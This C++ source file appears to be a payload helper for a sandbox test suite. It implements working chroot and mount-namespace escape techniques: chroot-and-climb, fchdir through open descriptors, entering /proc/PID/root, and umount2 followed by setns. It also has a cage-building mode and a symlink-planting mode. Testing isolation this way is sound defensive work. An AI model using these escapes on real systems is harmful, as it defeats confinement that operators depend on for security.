// What a command tries that wants out of its root: the ways that are known, none of them new.

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>

#include "modes.hpp"

namespace payload {
namespace {

// Up from the working folder, as far as it goes, and makes that the root.
void climb() {
  for (int i = 0; i < 64; ++i)
    if (::chdir("..") == -1) break;
  if (::chroot(".") == -1) return;  // who may not do it still has its working folder there
}

// A process cannot climb above its root. One that moves its root below its working folder is above
// it, and there nothing stops it but the top of all mounts. chroot(2), "NOTES".
void by_chroot() {
  if (::chroot("/tmp") == 0) climb();
}

// An open folder leads wherever it was opened.
void by_descriptor() {
  for (int number = 0; number < 1024; ++number)
    if (::fchdir(number) == 0) return climb();
}

bool is_root(const char* path) {
  struct stat root;
  struct stat other;
  return ::stat("/", &root) == -1 || ::stat(path, &other) == -1 ||
         (root.st_dev == other.st_dev && root.st_ino == other.st_ino);
}

// Every process in /proc has a door to its own root.
void by_proc() {
  DIR* const proc = ::opendir("/proc");
  if (proc == nullptr) return;
  while (const dirent* entry = ::readdir(proc)) {
    if (::strspn(entry->d_name, "0123456789") != ::strlen(entry->d_name)) continue;
    char door[64];
    ::snprintf(door, sizeof door, "/proc/%.16s/root", entry->d_name);
    if (!is_root(door) && ::chdir(door) == 0) return climb();
  }
}

// Who joins a mount namespace, its own too, gets what lies on top there for a root: setns(2). So
// first what lies on top is taken away.
void by_joining() {
  const int own = ::open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (own == -1) return;
  ::umount2("/", MNT_DETACH);
  if (::setns(own, CLONE_NEWNS) == -1) return;
  climb();
}

struct Way {
  const char* name;
  void (*go)();
};

constexpr Way ways[] = {
    {"chroot", by_chroot}, {"descriptor", by_descriptor}, {"proc", by_proc}, {"join", by_joining}};

bool go(const char* name) {
  for (const Way& way : ways) {
    if (::strcmp(way.name, name) != 0) continue;
    way.go();
    return true;
  }
  return false;
}

}  // namespace

// break-out WAY TOKEN: tries that way, and then holds, with a child; its root and its working
// folder tell where it has come to.
int break_out(char** words) {
  if (!go(words[0])) return 3;
  tell_and_hold();
}

// cage ROOT WAY TOKEN: the same from a mere chroot(2) to ROOT, with a copy of /proc and one more
// child that stays outside: so a check sees that the way leads out.
int break_out_of_cage(char** words) {
  tell();
  char proc[256];
  ::snprintf(proc, sizeof proc, "%s/proc", words[0]);
  if (::unshare(CLONE_NEWNS) == -1 ||
      ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == -1 ||
      ::mount("/proc", proc, nullptr, MS_BIND, nullptr) == -1 || ::chroot(words[0]) == -1 ||
      ::chdir("/") == -1 || !go(words[1]))
    return 3;
  tell_and_hold();
}

// plant ROOT NAME FOLDER LINK TOKEN: the folder ROOT/NAME becomes a link with the text LINK, and
// there is a FOLDER, two levels deep, outside and in ROOT.
int plant_link(char** words) {
  char path[256];
  ::snprintf(path, sizeof path, "%s/tmp", words[0]);
  if (::rmdir(path) == -1 || ::mkdir(path, 0755) == -1) return 3;  // one that is ours
  ::snprintf(path, sizeof path, "%s%s", words[0], words[2]);
  if (::mkdir(path, 0755) == -1 || ::mkdir(words[2], 0755) == -1) return 3;
  ::snprintf(path, sizeof path, "%s/%s", words[0], words[1]);
  return ::rmdir(path) == 0 && ::symlink(words[3], path) == 0 ? 0 : 3;
}

}  // namespace payload
